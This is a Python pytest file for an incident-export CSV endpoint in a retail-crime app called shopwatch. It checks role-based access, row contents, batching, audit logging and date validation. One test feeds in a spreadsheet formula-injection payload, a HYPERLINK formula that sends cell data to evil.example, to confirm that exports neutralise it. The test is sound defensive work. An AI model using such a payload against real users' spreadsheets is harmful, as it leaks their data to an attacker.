"""GET /export/incidents.csv: authorised like the summary, readable rows, formulas neutralised, audited."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from shopwatch.accounts.models import Role
from shopwatch.api.ids import encode_id
from shopwatch.core.audit.models import AuditEntry
from shopwatch.core.audit.trail import verify_chain
from shopwatch.incidents.models import IncidentKind
from tests.api.offenders.helpers import EVERY_VIEWER, link, make_incident, make_offender
from tests.api.summaries.test_area_summary import ALLOWED, LAST_30_DAYS
from tests.support.world import World


async def export(http: httpx.AsyncClient, token: str | None, **params: str) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return await http.get("/export/incidents.csv", params=params, headers=headers)


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(("role", "town"), EVERY_VIEWER)
async def test_only_those_who_see_the_summary_may_export(
    http: httpx.AsyncClient, world: World, role: Role | None, town: str
) -> None:
    await make_incident(world.home)
    response = await export(http, world.token(role, town), bidId=world.home.bid_id, **LAST_30_DAYS)
    if (role, town) in ALLOWED:
        assert response.status_code == 200
        assert len(rows_of(response)) == 1
    else:
        assert response.status_code == (401 if role is None else 403)
        assert "incident" not in response.text.lower().replace("export incidents", "")
        assert await AuditEntry.all().count() == 0


async def test_one_readable_row_per_incident(http: httpx.AsyncClient, world: World) -> None:
    home = world.home
    offender = await make_offender(home, "Grey hoodie")
    incident = await make_incident(
        home,
        hours_ago=2,
        kind=IncidentKind.THREATS_AND_ABUSE,
        value_stolen_pence=1250,
        police_reference="WM-123",
        vehicle_registration="AB12CDE",
        injury=False,
    )
    await link(incident, offender)
    await make_incident(home, shop=1, hours_ago=1)
    await make_incident(world.away)
    response = await export(http, world.token(Role.BID_MANAGER), bidId=home.bid_id, **LAST_30_DAYS)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="shopwatch-home-')
    assert response.headers["cache-control"] == "no-store"
    assert response.content.startswith("\ufeff".encode())  # so spreadsheets read it as UTF-8
    rows = rows_of(response)
    assert len(rows) == 2
    first = rows[0]
    assert first["Incident ID"] == encode_id("Incident", incident.id)
    assert first["Reference"] == incident.reference and incident.reference.startswith("HOM-")
    assert first["Shop"] == home.shops[0].name
    assert first["Kind"] == "Threats and abuse"
    assert first["Status"] == "New"
    assert first["Value stolen (£)"] == "12.50"
    assert (first["Police reference"], first["Vehicle registration"], first["Injury"]) == (
        "WM-123",
        "AB12CDE",
        "no",
    )
    assert first["Offenders"] == "Grey hoodie"
    assert first["Photos"] == "0"
    assert first["Reported by"] == home.users[Role.SHOP_STAFF].name
    assert first["Description"] == "Took razor blades."
    assert rows[1]["Shop"] == home.shops[1].name and rows[1]["Value stolen (£)"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_cells_that_would_run_as_formulas_are_neutralised(
    http: httpx.AsyncClient, world: World, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    await make_incident(world.home, description=formula, police_reference=f"{start}1+1")
    response = await export(http, world.token(Role.BID_MANAGER), bidId=world.home.bid_id, **LAST_30_DAYS)
    row = rows_of(response)[0]
    assert row["Description"] == "'" + formula
    assert row["Police reference"] == f"'{start}1+1"


async def test_rows_come_in_batches_without_loss_or_repeat(http: httpx.AsyncClient, world: World) -> None:
    from shopwatch.summaries import export as export_module

    made = [await make_incident(world.home, hours_ago=1 + n / 100) for n in range(25)]
    original = export_module.BATCH
    export_module.BATCH = 4  # many batches from few rows
    try:
        response = await export(http, world.token(Role.BID_MANAGER), bidId=world.home.bid_id, **LAST_30_DAYS)
    finally:
        export_module.BATCH = original
    ids = [row["Incident ID"] for row in rows_of(response)]
    assert ids == [encode_id("Incident", incident.id) for incident in reversed(made)]


async def test_each_export_is_recorded_in_the_audit_trail(http: httpx.AsyncClient, world: World) -> None:
    manager = world.home.users[Role.BID_MANAGER]
    await export(http, world.token(Role.BID_MANAGER), bidId=world.home.bid_id, **LAST_30_DAYS)
    await export(http, world.token(Role.POLICE), bidId=world.home.bid_id, **LAST_30_DAYS)
    entries = await AuditEntry.all().order_by("id")
    assert [(entry.actor, entry.action, entry.subject) for entry in entries] == [
        (manager.email, "incidents.export_csv", f"Bid:{world.home.bid.id}"),
        (world.home.users[Role.POLICE].email, "incidents.export_csv", f"Bid:{world.home.bid.id}"),
    ]
    assert entries[0].actor_user_id == manager.id and entries[0].address
    assert LAST_30_DAYS["from"] in entries[0].detail
    assert (await verify_chain()).intact


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "yesterday", "to": "2026-01-31"}, "from"),
        ({"from": "2026-01-01"}, "to"),
        ({"from": "2026-02-01", "to": "2026-01-01"}, "to"),
    ],
)
async def test_a_bad_period_is_a_clear_400(
    http: httpx.AsyncClient, world: World, params: dict[str, str], field: str
) -> None:
    response = await export(http, world.token(Role.BID_MANAGER), bidId=world.home.bid_id, **params)
    assert response.status_code == 400
    assert response.json()["field"] == field


async def test_an_unknown_bid_is_refused_like_one_out_of_reach(http: httpx.AsyncClient, world: World) -> None:
    response = await export(http, world.token(Role.ADMIN), bidId="not-an-id", **LAST_30_DAYS)
    assert response.status_code == 403
